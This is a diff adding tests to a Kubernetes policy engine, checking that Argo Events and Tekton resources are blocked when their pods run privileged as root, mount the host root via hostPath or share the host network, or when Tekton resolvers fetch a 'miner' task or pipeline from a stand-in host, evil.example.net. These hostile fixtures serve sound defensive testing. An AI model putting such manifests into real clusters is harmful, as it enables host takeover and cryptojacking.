@@ -280,6 +280,152 @@ describe('pod rules judge the pods custom resources make', () => {
   });
 });
 
+describe('Argo Events sensors and event sources: their pod template (spec.template)', () => {
+  const blocking = (objects: KubeObject[]) =>
+    engine.check(objects, { scope }).blocking;
+  /** The container of the pod the controller makes: it supplies the image. */
+  const { name: _n, image: _i, ...sensorContainer } = goodContainer();
+  const events = (kind: string, template: Record<string, unknown>) =>
+    custom('argoproj.io/v1alpha1', kind, {
+      template,
+      ...(kind === 'Sensor'
+        ? {
+            dependencies: [
+              { name: 'd', eventSourceName: 'e', eventName: 'example' },
+            ],
+            triggers: [{ template: { name: 'log', log: {} } }],
+          }
+        : { webhook: { example: { port: '12000', endpoint: '/e' } } }),
+    });
+
+  it.each(['Sensor', 'EventSource'])(
+    'refuses a %s whose pod is privileged with a hostPath volume',
+    kind => {
+      const doc = events(kind, {
+        container: {
+          securityContext: { privileged: true, runAsUser: 0 },
+          volumeMounts: [{ name: 'host', mountPath: '/host' }],
+        },
+        volumes: [{ name: 'host', hostPath: { path: '/' } }],
+        securityContext: { runAsUser: 0 },
+      });
+      expect(blocking([doc])).toBe(true);
+      expect(failed([doc])).toEqual(
+        expect.arrayContaining([
+          'no-privileged',
+          'host-path',
+          'run-as-non-root',
+        ]),
+      );
+      expect(messages([doc], 'no-privileged').join('\n')).toContain(
+        'spec.template.container',
+      );
+    },
+  );
+
+  it.each(['Sensor', 'EventSource'])(
+    'refuses a %s whose pod shares the host network',
+    kind => {
+      expect(blocking([events(kind, { hostNetwork: true })])).toBe(true);
+    },
+  );
+
+  it.each(['Sensor', 'EventSource'])(
+    'passes a %s with a compliant pod template, or none, without asking for an image',
+    kind => {
+      expect(
+        blocking([
+          events(kind, {
+            container: sensorContainer,
+            securityContext: { runAsNonRoot: true },
+            serviceAccountName: 'sensor',
+          }),
+        ]),
+      ).toBe(false);
+      const plain = events(kind, {});
+      delete plain.spec.template;
+      expect(blocking([plain])).toBe(false);
+    },
+  );
+});
+
+describe('valid-object: Tekton tasks and pipelines fetched by a resolver', () => {
+  const blocking = (objects: KubeObject[]) =>
+    engine.check(objects, { scope }).blocking;
+
+  it('refuses a TaskRun whose task a resolver fetches from a bundle', () => {
+    const run = custom('tekton.dev/v1', 'TaskRun', {
+      taskRef: {
+        resolver: 'bundles',
+        params: [
+          { name: 'bundle', value: 'evil.example.net/tasks/miner:latest' },
+          { name: 'name', value: 'miner' },
+          { name: 'kind', value: 'task' },
+        ],
+      },
+    });
+    expect(blocking([run])).toBe(true);
+    expect(messages([run], 'valid-object').join('\n')).toContain(
+      'spec.taskRef',
+    );
+  });
+
+  it('refuses a PipelineRun whose pipeline a resolver fetches over http', () => {
+    const run = custom('tekton.dev/v1', 'PipelineRun', {
+      pipelineRef: {
+        resolver: 'http',
+        params: [{ name: 'url', value: 'https://evil.example.net/miner.yaml' }],
+      },
+    });
+    expect(blocking([run])).toBe(true);
+    expect(messages([run], 'valid-object').join('\n')).toContain(
+      'spec.pipelineRef',
+    );
+  });
+
+  it('refuses the old bundle field, resolvers in pipeline tasks and step refs', () => {
+    for (const doc of [
+      custom('tekton.dev/v1beta1', 'TaskRun', {
+        taskRef: { name: 'miner', bundle: 'evil.example.net/tasks:1' },
+      }),
+      custom('tekton.dev/v1', 'Pipeline', {
+        tasks: [
+          {
+            name: 'a',
+            taskRef: {
+              resolver: 'git',
+              params: [{ name: 'url', value: 'https://evil.example.net/t' }],
+            },
+          },
+        ],
+      }),
+      custom('tekton.dev/v1', 'PipelineRun', {
+        pipelineSpec: {
+          finally: [{ name: 'a', taskRef: { resolver: 'hub', params: [] } }],
+        },
+      }),
+      custom('tekton.dev/v1', 'Task', {
+        steps: [{ name: 's', ref: { resolver: 'cluster', params: [] } }],
+      }),
+    ])
+      expect(blocking([doc])).toBe(true);
+  });
+
+  it('leaves a reference by name to a task or pipeline in the namespace alone', () => {
+    expect(
+      failed([
+        custom('tekton.dev/v1', 'TaskRun', { taskRef: { name: 'build' } }),
+        custom('tekton.dev/v1', 'PipelineRun', {
+          pipelineRef: { name: 'release' },
+        }),
+        custom('tekton.dev/v1', 'Pipeline', {
+          tasks: [{ name: 'a', taskRef: { name: 'build', kind: 'Task' } }],
+        }),
+      ]),
+    ).not.toContain('valid-object');
+  });
+});
+
 describe('valid-object: containers of a custom resource the policy cannot place in a pod', () => {
   it('refuses a containers list or an image at a path the policy does not read, naming the path', () => {
     const results = messages(
